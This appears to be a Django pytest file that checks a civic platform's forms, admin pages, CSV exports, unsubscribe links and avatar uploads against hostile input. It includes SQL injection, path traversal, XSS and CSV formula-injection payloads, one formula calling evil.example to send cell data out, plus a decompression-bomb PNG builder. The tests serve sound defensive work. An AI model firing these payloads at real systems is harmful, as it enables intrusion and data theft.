"""Hostile input never reaches a 500: what an attacker types, in every form and URL a role can reach.

Table-driven: each table lists the values and where they go; each test asserts what a person sees
(no 5xx, the field's message) and what is stored (nothing).
"""

import dataclasses
import struct
import zlib
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from tests.volunteering.factories import MissionFactory, SlotFactory

pytestmark = pytest.mark.django_db


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes whose header declares ``width`` × ``height`` grayscale pixels.

    Its one data chunk holds a single compressed row: enough for any reader to parse the header,
    which is all a decompression bomb needs (a real one holds megabytes of zeros that inflate).
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    row = zlib.compress(b"\0" * (width + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", row) + chunk(b"IEND", b"")


# --- Out-of-range dates -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "start=9999-12-31&end=9999-12-31",
        "end=9999-12-31",
        "start=0001-01-01&end=0001-01-01",
        "start=9999-99-99",
        "start=2026-02-30",
        "start=%00&end=%27--",
        "month=9999-12",
        "month=0001-01",
    ],
)
@pytest.mark.parametrize("page", ["/en/events/", "/en/events/calendar/"])
def test_event_lists_answer_out_of_range_dates_without_a_500(client, page, query):
    response = client.get(f"{page}?{query}")
    assert response.status_code == 200


def test_an_out_of_range_date_in_the_event_filter_is_named_next_to_the_field(client):
    response = client.get("/en/events/?start=9999-12-31&end=9999-12-31")
    assert "Enter a date between 1900 and 2999." in response.content.decode()


# --- Non-numeric ids in admin URLs --------------------------------------------------------------

HOSTILE_IDS = ["abc", "1'--", "%2e%2e%2f", "-1", "1.5", "99999999999999999999999", "%00", "1%20OR%201=1"]


@pytest.mark.parametrize("object_id", HOSTILE_IDS)
@pytest.mark.parametrize("model", ["mission", "slot"])
@pytest.mark.parametrize("who", ["alice_in_a", "edith"])
def test_volunteering_admin_answers_404_for_a_hostile_id(client, request, who, model, object_id):
    client.force_login(request.getfixturevalue(who))
    SlotFactory(mission=MissionFactory(organization=request.getfixturevalue("org_a")))

    response = client.get(f"/admin/volunteering/{model}/{object_id}/change/")

    assert response.status_code == 404


# --- Decompression bombs and oversized pixel counts -------------------------------------------


def _profile_data(city, **extra):
    return {"display_name": "Alice", "home_city": city.pk, "language": "en", **extra}


@pytest.mark.parametrize(
    ("size", "message"),
    [
        ((20000, 20000), "This picture has too many pixels. The limit is 40 megapixels"),
        ((13000, 13000), "This picture has too many pixels. The limit is 40 megapixels"),
        ((8000, 6000), "This picture is too large (8000 × 6000 pixels). The limit is 40 megapixels"),
    ],
)
def test_a_picture_with_too_many_pixels_is_refused_as_an_avatar(client, alice, city, size, message):
    client.force_login(alice)
    bomb = png_declaring(*size)
    assert len(bomb) < 100_000

    response = client.post(
        "/en/me/profile/",
        _profile_data(city, avatar_upload=SimpleUploadedFile("me.png", bomb, content_type="image/png")),
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="id_avatar_upload_error"' in html
    assert message in html
    alice.refresh_from_db()
    assert not alice.avatar


def test_the_pixel_cap_is_a_setting(client, alice, city, settings):
    settings.UPLOAD_MAX_PIXELS = 1_000_000
    client.force_login(alice)
    upload = SimpleUploadedFile("me.png", png_declaring(1200, 1000), content_type="image/png")

    response = client.post("/en/me/profile/", _profile_data(city, avatar_upload=upload))

    assert "The limit is 1 megapixels" in response.content.decode()


# --- RFC 8058 one-click unsubscribe -------------------------------------------------------------


def _unsubscribe_url(member) -> str:
    from civic.core.views import digest_unsubscribe_token

    return f"/en/digest/unsubscribe/{digest_unsubscribe_token(member)}/"


def test_a_mail_provider_unsubscribes_with_one_post_and_no_session_or_csrf_token(bob):
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    provider = Client(enforce_csrf_checks=True)  # no cookie, no session: what Gmail or Yahoo send

    response = provider.post(
        _unsubscribe_url(bob),
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )

    assert response.status_code == 200
    bob.refresh_from_db()
    assert not bob.weekly_digest


def test_opening_the_unsubscribe_link_only_asks(client, bob):
    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])

    response = client.get(_unsubscribe_url(bob))

    assert "Stop receiving the weekly digest email?" in response.content.decode()
    bob.refresh_from_db()
    assert bob.weekly_digest


@pytest.mark.parametrize(
    "token",
    [
        "forged",
        "MQ:1vZ2Zx:abc",  # the shape of a signed value, with a wrong signature
        "x" * 5000,
        "%00",
        "..%2f..%2fadmin",
    ],
)
def test_a_forged_unsubscribe_token_unsubscribes_nobody(bob, token):
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])

    response = Client(enforce_csrf_checks=True).post(
        f"/en/digest/unsubscribe/{token}/",
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


def test_a_token_signed_for_something_else_does_not_unsubscribe(bob):
    from django.core import signing
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    other = signing.dumps(bob.pk)  # default salt: e.g. another feature's signed id

    response = Client().post(f"/en/digest/unsubscribe/{other}/", data={"List-Unsubscribe": "One-Click"})

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


def test_an_expired_unsubscribe_link_does_not_unsubscribe(bob):
    import time

    from django.core import signing
    from django.test import Client

    from civic.core.views import DIGEST_SALT, DIGEST_TOKEN_MAX_AGE

    class SignedLongAgo(signing.TimestampSigner):
        def timestamp(self):
            return signing.b62_encode(int(time.time()) - DIGEST_TOKEN_MAX_AGE - 60)

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    stale = SignedLongAgo(salt=DIGEST_SALT).sign_object(bob.pk)

    response = Client().post(f"/en/digest/unsubscribe/{stale}/", data={"List-Unsubscribe": "One-Click"})

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


# --- CSV formula injection ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _assert_neutralised(rows: list[list[str]], payload: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + payload in cells, f"{payload!r} missing from {rows}"
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_officials_csv_exports_neutralise_formulas(client, olga, alice, city, payload):
    from participation import services as participation
    from tests.participation.factories import CitySpaceFactory, ProposalFactory

    CitySpaceFactory(city=city)
    proposal = ProposalFactory(city=city, title=payload, author=alice)
    participation.proposal_answer(proposal=proposal, official=olga, status="accepted", text=payload)
    client.force_login(olga)

    for what in ("proposals", "answers"):
        rows = _cells(client.get(f"/en/cities/{city.slug}/dashboard/export/{what}.csv"))
        _assert_neutralised(rows, payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_attendees_csv_neutralises_a_formula_as_a_name(client, payload):
    from events import services as events
    from tests.events.factories import EventFactory
    from tests.factories import MemberFactory

    organiser = MemberFactory(is_shaker=True)
    event = EventFactory(created_by=organiser)
    events.rsvp_create(event=event, member=MemberFactory(display_name=payload))
    client.force_login(organiser)

    _assert_neutralised(_cells(client.get(f"/en/events/{event.pk}/attendees.csv")), payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_volunteers_csv_neutralises_formulas_in_names_and_titles(client, alice_in_a, org_a, payload):
    from tests.factories import MemberFactory
    from tests.volunteering.factories import ParticipationFactory

    slot = SlotFactory(mission=MissionFactory(organization=org_a, title_fr=payload, title_en=payload))
    ParticipationFactory(slot=slot, member=MemberFactory(display_name=payload))
    client.force_login(alice_in_a)

    response = client.post(
        "/admin/volunteering/slot/", {"action": "export_csv", "_selected_action": [slot.pk]}
    )

    rows = _cells(response)
    _assert_neutralised(rows, payload)
    assert sum(cell == "'" + payload for row in rows for cell in row) == 2  # mission and volunteer


# --- Every form a role can post: hostile values refused with a message, nothing stored -------------
#
# Each form has a valid submission (checked to be accepted, so a refusal below is the hostile value's
# doing) and, per field, values that must be refused. A value is sent in place of the valid one; the
# page must answer below 500, show the field's message (or the form's, for a rule across fields), and
# the database must not change.

NUL = "a\x00b"
SQL = "1' OR '1'='1' --"
TRAVERSAL = "../../../etc/passwd"
HUGE_INT = "99999999999999999999999"
IDS = [
    "abc",
    "-1",
    "0",
    HUGE_INT,
    SQL,
    "1 OR 1=1",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    NUL,
    "1.5",
    "[]",
]
CHOICES = ["nope", "<script>alert(1)</script>", NUL, SQL, "x" * 300, TRAVERSAL]
INTEGERS = ["abc", "1.5", "1e309", "NaN", "inf", "-inf", HUGE_INT, "0x10", SQL, NUL, "½"]
LATITUDES = ["abc", "NaN", "inf", "-inf", "1e309", "91", "-90.0001", SQL, NUL]
LONGITUDES = ["abc", "NaN", "inf", "1e309", "181", "-180.5", SQL, NUL]
DATETIMES = [
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "2026-02-30T10:00",
    "2026-13-01T10:00",
    "99999-01-01T00:00",
    "abc",
    SQL,
    NUL,
]
DATES = ["9999-12-31", "0001-01-01", "2026-02-30", "abc", SQL, NUL, "1e309"]
AMOUNTS = ["abc", "1e9999999", "1e99999", "NaN", "Infinity", "-5", "0", "0.001", "1000000.01", SQL, NUL]


def required_text(max_length: int) -> list[str]:
    return ["", "   ", NUL, "\x00", "x" * (max_length + 1)]


def optional_text(max_length: int) -> list[str]:
    return [NUL, "x" * (max_length + 1)]


@dataclasses.dataclass
class Spec:
    name: str
    who: str
    url: Callable[[dict], str]
    base: Callable[[dict], dict]
    fingerprint: Callable[[dict], object]  # what must not change when a submission is refused
    fields: dict[str, tuple[str, list[str]]]  # posted key -> (error key, refused values)
    admin: bool = False
    flashed: bool = False  # the form redirects back and flashes its errors (small inline forms)
    hidden: tuple[str, ...] = ()  # hidden inputs no one types: a forged id may answer 404 instead


@pytest.fixture
def world(city, theme, alice, olga, org_a, alice_in_a):
    """One of everything the forms below need, in Paris."""
    from crowdfunding.models import Campaign
    from events.models import Event
    from participation.models import Answer, Comment, Proposal
    from tests.crowdfunding.factories import ProjectFactory, open_campaign
    from tests.events.factories import EventFactory
    from tests.factories import MemberFactory
    from tests.participation.factories import CitySpaceFactory, NeighbourhoodFactory, ProposalFactory
    from volunteering.models import Mission, Slot

    space = CitySpaceFactory(city=city)
    NeighbourhoodFactory(city=city)
    holder = MemberFactory(email="holder@example.org", display_name="Holder")
    project = ProjectFactory(holder_member=holder, city=city)
    return {
        "city": city,
        "theme": theme,
        "space": space,
        "proposal": ProposalFactory(city=city, theme=theme, author=olga),
        "event": EventFactory(city=city, capacity=10),
        "campaign": open_campaign(project, by=holder),
        "mission": MissionFactory(organization=org_a, city=city),
        "shaker": MemberFactory(email="shaker@example.org", display_name="Shaker", is_shaker=True),
        "models": {
            "proposals": Proposal,
            "comments": Comment,
            "answers": Answer,
            "events": Event,
            "campaigns": Campaign,
            "missions": Mission,
            "slots": Slot,
        },
    }


def _count(model_key: str, extra: Callable[[dict], object] = lambda w: None):
    return lambda w: (w["models"][model_key].objects.count(), extra(w))


def _pledges(w):
    return w["campaign"].pledges.count()


def _rsvps(w):
    return w["event"].rsvps.count()


def _profile(w):
    from civic.accounts.models import User

    return User.objects.filter(email="alice@example.org").values_list(
        "display_name", "bio", "home_city", "latitude", "language"
    )[0]


def _space(w):
    w["space"].refresh_from_db()
    return w["space"].support_threshold


def _crowdfunding_projects(w):
    from crowdfunding.models import Project

    return Project.objects.count()


SPECS = [
    Spec(
        "profile",
        "alice",
        lambda w: "/en/me/profile/",
        lambda w: {
            "display_name": "Alice Martin",
            "bio": "Gardens.",
            "home_city": w["city"].pk,
            "point_lat": "48.85",
            "point_lng": "2.35",
            "language": "en",
        },
        _profile,
        {
            "display_name": ("display_name", optional_text(80)),
            "bio": ("bio", optional_text(2000)),
            "home_city": ("home_city", IDS),
            "point_lat": ("point", LATITUDES),
            "point_lng": ("point", LONGITUDES),
            "language": ("language", CHOICES),
            "interests": ("interests", IDS),
            "availability": ("availability", CHOICES),
        },
    ),
    Spec(
        "proposal",
        "bob",
        lambda w: "/en/cities/paris/proposals/new/",
        lambda w: {"title": "Water fountains", "text": "In every park", "theme": w["theme"].pk},
        _count("proposals"),
        {
            "title": ("title", required_text(160)),
            "text": ("text", required_text(10_000)),
            "theme": ("theme", [*IDS, ""]),
            "neighbourhood": ("neighbourhood", IDS),
            "point_lat": ("point", LATITUDES),
            "point_lng": ("point", LONGITUDES),
        },
    ),
    Spec(
        "comment",
        "bob",
        lambda w: f"/en/cities/paris/proposals/{w['proposal'].pk}/comments/",
        lambda w: {"text": "Good idea"},
        _count("comments"),
        {"text": ("text", required_text(3000)), "parent": ("parent", [i for i in IDS if i != "0"])},
        flashed=True,
        hidden=("parent",),
    ),
    Spec(
        "event",
        "shaker",
        lambda w: "/en/events/new/",
        lambda w: {
            "kind": "meetup",
            "title": "Apéro",
            "city": w["city"].pk,
            "place_name": "Café",
            "starts_at": "2031-05-10T18:00",
            "ends_at": "2031-05-10T20:00",
        },
        _count("events"),
        {
            "kind": ("kind", CHOICES),
            "title": ("title", required_text(200)),
            "city": ("city", [*IDS, ""]),
            "starts_at": ("starts_at", [*DATETIMES, ""]),
            "ends_at": ("ends_at", [*DATETIMES, ""]),
            "capacity": ("capacity", [*INTEGERS, "-1"]),
            "languages": ("languages", CHOICES),
            "themes": ("themes", IDS),
            "repeat": ("repeat", CHOICES),
            "exceptions": ("exceptions", ["abc", "9999-12-31", "0001-01-01", "2026-02-30", SQL, NUL]),
            "link_url": ("link_url", ["javascript:alert(1)", "abc def", NUL, "http://" + "x" * 300]),
        },
    ),
    Spec(
        "rsvp",
        "bob",
        lambda w: f"/en/events/{w['event'].pk}/rsvp/",
        lambda w: {"guests": "0"},
        _rsvps,
        {"guests": ("guests", [*INTEGERS, "-1", "1000"])},
        flashed=True,
    ),
    Spec(
        "project",
        "bob",
        lambda w: "/en/projects/new/",
        lambda w: {"title": "Fresque", "holder": "me", "stage": "idea", "city": w["city"].pk},
        lambda w: _crowdfunding_projects(w),
        {
            "title": ("title", required_text(160)),
            "holder": ("holder", CHOICES),
            "stage": ("stage", [*CHOICES, "funding"]),
            "city": ("city", [*IDS, ""]),
            "themes": ("themes", IDS),
        },
    ),
    Spec(
        "pledge",
        "bob",
        lambda w: f"/en/projects/campaigns/{w['campaign'].pk}/pledge/",
        lambda w: {"amount": "10", "gateway": "offline"},
        _pledges,
        {
            "amount": ("amount", [*AMOUNTS, ""]),
            "gateway": ("gateway", CHOICES),
            "message": ("message", optional_text(500)),
        },
    ),
    Spec(
        "answer",
        "olga",
        lambda w: f"/en/cities/paris/dashboard/answer/{w['proposal'].pk}/",
        lambda w: {"status": "accepted", "text": "Yes"},
        _count("answers"),
        {
            "status": ("status", CHOICES),
            "text": ("text", required_text(10_000)),
            "cost": ("cost", ["abc", "NaN", "Infinity", "-5", HUGE_INT, "1e309", SQL, NUL]),
            "planned_date": ("planned_date", DATES),
        },
    ),
    Spec(
        "space settings",
        "olga",
        lambda w: "/en/cities/paris/dashboard/settings/",
        lambda w: {"space-support_threshold": "5", "save_space": ""},
        _space,
        {"space-support_threshold": ("support_threshold", [*INTEGERS, "-4", "0", ""])},
    ),
    Spec(
        "admin slot",
        "alice_in_a",
        lambda w: "/admin/volunteering/slot/add/",
        lambda w: {
            "mission": w["mission"].pk,
            "starts_at_0": "2031-05-10",
            "starts_at_1": "09:00",
            "ends_at_0": "2031-05-10",
            "ends_at_1": "12:00",
            "capacity": "5",
        },
        _count("slots"),
        {
            "mission": ("mission", [*IDS, ""]),
            "starts_at_0": ("starts_at", DATES),
            "starts_at_1": ("starts_at", ["25:00", "abc", SQL, NUL, "99:99:99"]),
            "capacity": ("capacity", [*INTEGERS, "-1", "0"]),
        },
        admin=True,
    ),
]


def _post(client, spec: Spec, world: dict, data: dict):
    if spec.admin:
        data = {**_management_forms(client, spec.url(world)), **data}
    return client.post(spec.url(world), data, follow=spec.flashed)


def _management_forms(client, url: str) -> dict:
    """The inline formsets' management data of an admin add page, as the browser would send it."""
    page = client.get(url)
    data = {}
    for inline in page.context["inline_admin_formsets"]:
        management = inline.formset.management_form
        for name in management.fields:
            data[management.add_prefix(name)] = management.initial.get(name, "")
    return data


def _messages(response, spec: Spec, error_key: str) -> list[str]:
    """The messages the page gives for ``error_key`` (or for the whole form)."""
    if spec.flashed:
        return [str(m) for m in response.context["messages"] if m.level_tag == "error"]
    if response.status_code == 302:
        return []
    context = response.context
    form = context["adminform"].form if spec.admin else context["form"]
    errors = form.errors
    if spec.name == "space settings":
        errors = context["space_form"].errors if "space_form" in context else errors
    return list(errors.get(error_key, [])) or list(errors.get("__all__", []))


@pytest.mark.parametrize("spec", SPECS, ids=[s.name for s in SPECS])
def test_each_form_accepts_its_valid_submission(client, request, world, spec):
    client.force_login(world["shaker"] if spec.who == "shaker" else request.getfixturevalue(spec.who))
    before = spec.fingerprint(world)

    response = _post(client, spec, world, spec.base(world))

    assert response.status_code == 302 or spec.flashed, _messages(response, spec, "__all__")
    assert spec.fingerprint(world) != before


CASES = [(spec, key) for spec in SPECS for key in spec.fields]


@pytest.mark.parametrize(("spec", "key"), CASES, ids=[f"{spec.name}-{key}" for spec, key in CASES])
def test_hostile_values_are_refused_with_a_message_and_nothing_is_stored(client, request, world, spec, key):
    client.force_login(world["shaker"] if spec.who == "shaker" else request.getfixturevalue(spec.who))
    error_key, values = spec.fields[key]
    before = spec.fingerprint(world)
    failures = []

    for value in values:
        response = _post(client, spec, world, {**spec.base(world), key: value})
        if response.status_code >= 500:
            failures.append((value, "status", response.status_code))
            continue
        if spec.fingerprint(world) != before:
            failures.append((value, "stored", spec.fingerprint(world)))
            break  # the baseline moved: later values would compare against the wrong state
        if response.status_code == 404 and key in spec.hidden:
            continue
        messages = _messages(response, spec, error_key)
        html = response.content.decode()
        if not messages or not all(escape(str(m)) in html for m in messages):
            failures.append((value, "no message", response.status_code, messages))

    assert failures == [], failures


def test_the_table_posts_at_least_200_hostile_values():
    assert sum(len(values) for spec in SPECS for _key, values in spec.fields.values()) >= 200


# --- Markup is stored as text and shown as text ----------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    '<iframe src="https://evil.example"></iframe>',
    "{{ request.user.password }}{% debug %}",
    "[x](javascript:alert(1))",
]
LIVE_MARKUP = [
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "href='javascript:",
    'href="javascript:',
    '<iframe src="https://evil.example"',
    "md5$",  # a password hash: template syntax in content is never evaluated
]


def _shows_no_live_markup(html: str) -> list[str]:
    return [pattern for pattern in LIVE_MARKUP if pattern in html]


def _latest_project_url() -> str:
    from crowdfunding.models import Project

    return Project.objects.latest("pk").get_absolute_url()


def _alice_pk() -> int:
    from civic.accounts.models import User

    return User.objects.get(email="alice@example.org").pk


MARKUP_FORMS = {
    "proposal": (
        "bob",
        lambda w: "/en/cities/paris/proposals/new/",
        lambda w, m: {"title": m[:160], "text": m, "theme": w["theme"].pk},
        lambda w: w["models"]["proposals"].objects.latest("pk").get_absolute_url(),
    ),
    "comment": (
        "bob",
        lambda w: f"/en/cities/paris/proposals/{w['proposal'].pk}/comments/",
        lambda w, m: {"text": m},
        lambda w: w["proposal"].get_absolute_url(),
    ),
    "event": (
        "shaker",
        lambda w: "/en/events/new/",
        lambda w, m: {
            "kind": "meetup",
            "title": m[:200],
            "description": m,
            "city": w["city"].pk,
            "place_name": m[:200],
            "starts_at": "2031-05-10T18:00",
            "ends_at": "2031-05-10T20:00",
        },
        lambda w: w["models"]["events"].objects.latest("pk").get_absolute_url(),
    ),
    "profile": (
        "alice",
        lambda w: "/en/me/profile/",
        lambda w, m: {"display_name": m[:80], "bio": m, "home_city": w["city"].pk, "language": "en"},
        lambda w: f"/en/me/members/{_alice_pk()}/",
    ),
    "project": (
        "bob",
        lambda w: "/en/projects/new/",
        lambda w, m: {
            "title": m[:160],
            "summary": m[:300],
            "description": m,
            "holder": "me",
            "stage": "idea",
            "city": w["city"].pk,
        },
        lambda w: _latest_project_url(),
    ),
}


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("form", list(MARKUP_FORMS))
def test_markup_typed_into_a_form_is_shown_as_text(client, request, world, form, markup):
    who, url, data, page = MARKUP_FORMS[form]
    client.force_login(world["shaker"] if who == "shaker" else request.getfixturevalue(who))

    posted = client.post(url(world), data(world, markup))
    assert posted.status_code == 302, posted.context and posted.context["form"].errors

    html = client.get(page(world)).content.decode()
    assert _shows_no_live_markup(html) == []


# --- Hostile query strings on the public lists and feeds ------------------------------------------

QUERY_VALUES = [
    "9999-12-31",
    "0001-01-01",
    HUGE_INT,
    "-1",
    "1e309",
    "NaN",
    "inf",
    SQL,
    "%00",
    "<script>alert(1)</script>",
    "x" * 5000,
    "1" * 5000,
    "[]",
]
QUERY_PAGES = {
    "/en/": ["q", "lat", "lng", "km", "kind", "theme", "city"],
    "/en/search/": ["q", "kind", "page"],
    "/en/initiatives/": ["q", "theme", "city", "country", "lat", "lng", "sort", "page"],
    "/en/initiatives/map.geojson": ["bbox", "theme", "city", "lat", "lng"],
    "/en/missions/": ["q", "lat", "lng", "km", "themes", "date_from", "date_to", "availability", "page"],
    "/en/missions/map.geojson": ["bbox", "lat", "lng", "km"],
    "/en/projects/": ["q", "stage", "city", "theme", "page"],
    "/en/cities/paris/": ["q", "sort", "theme", "neighbourhood", "status", "page"],
    "/en/cities/paris/embed/": ["sort", "limit"],
    "/en/events/": ["q", "city", "theme", "kind", "start", "end", "lat", "lng", "near", "km", "page"],
    "/en/events/calendar/": ["month", "start", "end", "city"],
    "/en/events/map.geojson": ["bbox", "start", "end"],
    "/en/events/days/": ["country", "page"],
    "/en/data/missions.geojson": ["city", "bbox"],
}


@pytest.mark.parametrize("page", list(QUERY_PAGES))
def test_public_lists_answer_hostile_query_strings_without_a_500(client, world, page):
    from urllib.parse import urlencode

    failures = []
    for param in QUERY_PAGES[page]:
        for value in QUERY_VALUES:
            response = client.get(f"{page}?{urlencode({param: value})}")
            if response.status_code >= 500:
                failures.append((param, value[:40], response.status_code))
            elif "<script>alert(1)</script>" in response.content.decode(errors="replace"):
                failures.append((param, value[:40], "reflected"))
    assert failures == []


# --- Every admin page, with hostile ids and query strings -------------------------------------------

ADMIN_IDS = ["abc", "1'--", "%2e%2e%2f", "-1", HUGE_INT, "%00"]
CHANGELIST_QUERIES = [
    {"q": "a\x00b"},
    {"q": "x" * 5000},
    {"o": "abc"},
    {"o": "999"},
    {"p": HUGE_INT},
    {"p": "-1"},
    {"pk__in": "abc"},
    {"id__gt": "abc"},
    {"_to_field": "password"},
    {"e": "1"},
]


def _admin_urls():
    from django.contrib import admin

    for model in admin.site._registry:
        yield f"/admin/{model._meta.app_label}/{model._meta.model_name}/"


@pytest.mark.parametrize("who", ["alice_in_a", "edith"])
def test_every_admin_page_answers_a_hostile_id_with_404_or_a_refusal(request, who):
    from django.test import Client

    client = Client(raise_request_exception=False)
    client.force_login(request.getfixturevalue(who))
    failures = []
    for base in _admin_urls():
        for object_id in ADMIN_IDS:
            for view in ("change/", "delete/", "history/"):
                status = client.get(f"{base}{object_id}/{view}").status_code
                if status not in (302, 403, 404):
                    failures.append((base, object_id, view, status))
    assert failures == []


@pytest.mark.parametrize("who", ["alice_in_a", "edith"])
def test_every_admin_list_answers_hostile_query_strings_without_a_500(request, who):
    from django.test import Client

    client = Client(raise_request_exception=False)
    client.force_login(request.getfixturevalue(who))
    failures = []
    for base in _admin_urls():
        for query in CHANGELIST_QUERIES:
            status = client.get(base, query).status_code
            if status >= 500:
                failures.append((base, query, status))
    assert failures == []
